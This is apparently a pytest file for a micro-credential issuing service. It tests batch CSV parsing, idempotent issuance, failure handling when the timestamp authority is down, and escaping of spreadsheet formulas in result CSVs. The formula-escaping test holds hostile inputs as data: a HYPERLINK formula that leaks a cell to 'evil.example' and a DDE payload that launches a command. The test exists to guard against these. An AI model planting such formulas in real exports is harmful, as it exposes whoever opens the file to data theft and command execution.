"""Issuance runs: the whole file is checked first, a re-run issues nothing twice, and a run stops whole when the
TSA is down."""

from __future__ import annotations

import base64
import csv
import io
import uuid
from datetime import date, timedelta

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from microcred import csvfiles
from microcred.accounts import service as accounts
from microcred.accounts.models import Role
from microcred.accounts.principal import Actor
from microcred.design import service as design
from microcred.errors import InvalidInput
from microcred.issuing import batch, documents
from microcred.issuing.models import IssuanceRun, IssuedCredential, StatusEntry
from microcred.store import Database
from microcred.store.base import utcnow
from microcred.trust.keystore import new_master_key, parse_master_key
from tests.conftest import World
from tests.design.fixtures import full
from tests.issuing.test_credentials import published as published_edition
from tests.web.test_api import bearer

MASTER = parse_master_key(new_master_key())
FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'
GOOD = "name,email,identifier,awarded,grade\nAna Andromeda,ana@example.org,,2026-11-20,Pass\nBo,,S-42,2026-11-21,\n"


def published(db: Session):  # type: ignore[no-untyped-def]
    org = accounts.create_organisation(db, Actor.operator(), legal_name="Uni Zed", country="IE", slug="zed")
    spec = design.create(db, Actor.operator(), org, full())
    design.publish(db, Actor.operator(), org, spec.id)
    db.commit()
    return org, spec


def test_a_file_with_bad_rows_issues_nothing_and_names_every_problem(db: Session) -> None:
    org, spec = published(db)
    bad = (
        "name,email,awarded,grade\n"
        "Ana,ana@example.org,2026-13-01,Pass\n"
        "Bo,,2026-11-20,\n"
        ",cy@example.org,2026-11-20,\n"
        "Di,di@example.org,2999-01-01,\n"
        "Ana again,ana@example.org,2026-11-20,\n"
        "Ana twice,ana@example.org,2026-11-20,\n"
    )
    with pytest.raises(InvalidInput) as raised:
        batch.parse(bad.encode(), spec_id=spec.id, edition=1, today=date(2026, 11, 23))
    detail, problems = raised.value.detail, raised.value.problems
    # One plain sentence per problem, in the order of the file: no field names, no run-on "; ".
    assert problems == [
        "Line 2: the award date “2026-13-01” is not a date written as YYYY-MM-DD.",
        "Line 3: give an email address or the learner's number as well as their name, to identify them.",
        "Line 4: the learner's name is missing.",
        "Line 5: the award date 2999-01-01 is in the future.",
        "Line 7: the same learner and award date (or the same key) as line 6.",
    ]
    assert detail == "Nothing was issued. " + " ".join(problems)
    for jargon in ("learner.", "awarded ", ";", ".;", ".."):
        assert jargon not in detail, jargon
    for raw, why in (
        (b"\xff\xfe", "not UTF-8"),
        (b"email,awarded\nx@y.z,2026-01-01\n", "no name column"),
        (b"name,awarded,colour\nA,2026-01-01,red\n", "Unknown CSV column 'colour'"),
        (b"name,email,awarded,email\nA,a@b.c,2026-01-01,d@e.f\n", "the column 'email' twice"),
        (b"name,email,awarded\nA,a@b.c,20260101\n", "Line 2: the award date “20260101” is not a date"),
        (b"name,email,awarded\nA,a@b.c,2026-W01-1\n", "is not a date"),
        (b"name,email,awarded\n" + b"A" * 200_000 + b",a@b.c,2026-01-01\n", "line 2 cannot be read"),
        (b"name,awarded\n", "no rows"),
    ):
        with pytest.raises(InvalidInput, match=why):
            batch.parse(raw, spec_id=spec.id, edition=1)
    assert db.scalar(select(func.count()).select_from(IssuedCredential)) == 0


def test_every_problem_is_listed_and_the_detail_says_the_first_ten(db: Session) -> None:
    _org, spec = published(db)
    rows = "".join(f"Learner {n},,2026-11-20\n" for n in range(12))  # neither email nor number
    with pytest.raises(InvalidInput) as raised:
        batch.parse(f"name,email,awarded\n{rows}".encode(), spec_id=spec.id, edition=1, today=date(2026, 11, 23))
    problems = raised.value.problems
    assert len(problems) == 12 and problems[11].startswith("Line 13: give an email address")
    assert raised.value.detail.endswith(
        "Line 11: give an email address or the learner's number as well as their "
        "name, to identify them. There are 2 more problems."
    )
    with pytest.raises(InvalidInput) as items:
        batch.from_items([{"learner": {"name": ""}, "result": {"awarded": "soon"}}], spec_id=spec.id, edition=1)
    assert items.value.problems == ["Item 1: the award date “soon” is not a date written as YYYY-MM-DD."]


def test_a_run_issues_each_row_once_even_when_run_again(db: Session) -> None:
    org, spec = published(db)
    rows = batch.parse(GOOD.encode(), spec_id=spec.id, edition=1)
    seen: list[tuple[int, int]] = []
    first = batch.run(
        db,
        Actor.operator(),
        org,
        spec.id,
        1,
        rows,
        base_url="https://mc.example",
        master=MASTER,
        progress=lambda d, t: seen.append((d, t)),
    )
    assert [o.status for o in first] == ["issued", "issued"] and seen == [(2, 2)]  # one chunk
    again = batch.run(
        db,
        Actor.operator(),
        org,
        spec.id,
        1,
        batch.parse(GOOD.encode(), spec_id=spec.id, edition=1),
        base_url="https://mc.example",
        master=MASTER,
    )
    assert [o.status for o in again] == ["already issued", "already issued"]
    assert [o.credential_id for o in again] == [o.credential_id for o in first]
    assert db.scalar(select(func.count()).select_from(IssuedCredential)) == 2
    table = list(csv.DictReader(io.StringIO(batch.result_csv(again))))
    assert table[0]["status"] == "already issued" and table[0]["credential_id"].startswith("urn:uuid:")


def test_a_chunk_that_fails_is_issued_row_by_row_naming_the_bad_row(db: Session) -> None:
    org, spec = published(db)
    rows = [
        batch.Row(
            n + 2,
            f"key-{n}",
            documents.Learner(name=f"L{n}", email=f"l{n}@example.org"),
            documents.Result(date(2026, 11, 1)),
        )
        for n in range(batch.CHUNK + 3)
    ]
    rows[5] = batch.Row(
        7, "key-bad", documents.Learner(name="No id"), documents.Result(date(2026, 11, 1))
    )  # not parsed
    outcomes = batch.run(db, Actor.operator(), org, spec.id, 1, rows, base_url="https://mc.example", master=MASTER)
    assert [o.status for o in outcomes].count("issued") == len(rows) - 1
    assert outcomes[5].status == "failed" and "identify them" in outcomes[5].detail
    assert db.scalar(select(func.count()).select_from(IssuedCredential)) == len(rows) - 1
    ids = {o.credential_id for o in outcomes if o.credential_id}
    places = db.execute(select(StatusEntry.list_id, StatusEntry.position)).all()
    assert len(ids) == len(rows) - 1 and len(places) == len(set(places)) == 2 * (len(rows) - 1)


def batch_items(count: int, *, bad: int | None = None) -> list[dict[str, object]]:
    items: list[dict[str, object]] = [
        {"learner": {"name": f"Learner {n}", "email": f"l{n}@example.org"}, "result": {"awarded": "2026-11-20"}}
        for n in range(count)
    ]
    if bad is not None:
        items[bad] = {"learner": {"name": "No id"}, "result": {"awarded": "2026-11-20"}}
    return items


def issued_count(database: Database) -> int:
    with database.session() as db:
        return int(db.scalar(select(func.count()).select_from(IssuedCredential)) or 0)


def test_a_run_stops_whole_when_the_tsa_is_down_and_a_dead_run_shows_stopped(
    client: TestClient, database: Database, world: World
) -> None:
    from microcred.accounts.principal import Actor
    from microcred.issuing import seals
    from tests import pki
    from tests.issuing.test_seals import MASTER

    educator = bearer(database, world, "a", Role.EDUCATOR)
    spec_id = published_edition(client, educator)
    with database.session() as db:
        seals.import_pkcs12(db, Actor.operator(), db.merge(world.orgs["a"]), pki.seal_p12(pki.CA()), "secret", MASTER)
    app = client.app
    settings = app.state.settings  # type: ignore[attr-defined]
    master = SecretStr(base64.urlsafe_b64encode(MASTER).decode().rstrip("="))
    app.state.settings = settings.model_copy(  # type: ignore[attr-defined]
        update={"tsa_url": "http://127.0.0.1:9/tsa", "master_key": master}
    )
    try:
        url = f"/api/orgs/a/specifications/{spec_id}/editions/1/credentials/batch"
        run = client.post(url, json={"items": batch_items(3)}, headers=educator).json()
        stopped = client.get(f"/api/orgs/a/runs/{run['id']}", headers=educator).json()
    finally:
        app.state.settings = settings  # type: ignore[attr-defined]
    assert stopped["state"] == "stopped" and "timestamp authority did not answer" in stopped["detail"]
    assert "127.0.0.1:9" not in stopped["detail"] and issued_count(database) == 0

    with database.session() as db:
        job = db.get(IssuanceRun, uuid.UUID(run["id"]))
        assert job is not None
        job.state, job.updated_at, job.detail = "running", utcnow() - timedelta(minutes=11), None
    dead = client.get(f"/api/orgs/a/runs/{run['id']}", headers=educator).json()
    assert dead["state"] == "stopped" and "interrupted" in dead["detail"]


def test_a_formula_in_a_batch_key_comes_out_of_result_csv_as_text() -> None:
    outcomes = [
        batch.Outcome(2, FORMULA, "failed", None, "+cmd|' /C calc'!A0"),
        batch.Outcome(3, "-2+3", "failed", None, "@SUM(1+1)"),
        batch.Outcome(4, "\tlead", "issued", uuid.UUID(int=1), "\r=1"),
        batch.Outcome(5, "plain", "issued", uuid.UUID(int=2), ""),
    ]
    rows = list(csv.reader(io.StringIO(batch.result_csv(outcomes))))
    assert rows[1] == ["2", "'" + FORMULA, "failed", "", "'+cmd|' /C calc'!A0"]
    assert rows[2][1] == "'-2+3" and rows[2][4] == "'@SUM(1+1)"
    assert rows[3][1] == "'\tlead" and rows[3][4] == "'\r=1"
    assert rows[4][1] == "plain"
    assert csvfiles.cell(-5) == -5  # numbers are numbers
    for hidden in (" =1+1", "\u00a0=1+1", "\ufeff@SUM(A1)", "＝1+1"):  # behind spaces, invisible, fullwidth
        assert csvfiles.cell(hidden) == "'" + hidden


def test_a_queued_run_is_handed_to_be_issued_later_with_what_it_needs(database: Database) -> None:
    """A route schedules the run with its background tasks: they run once the response is sent, after the
    request's transaction committed the queued run."""
    later: list[tuple[tuple[object, ...], dict[str, object]]] = []
    job = IssuanceRun(id=uuid.uuid4())
    batch.schedule(
        lambda *args, **kwargs: later.append((args, kwargs)),
        database,
        job,
        base_url="https://mc.example",
        master=MASTER,
        tsa_url=None,
    )
    assert later == [
        ((batch.execute, database, job.id), {"base_url": "https://mc.example", "master": MASTER, "tsa_url": None})
    ]
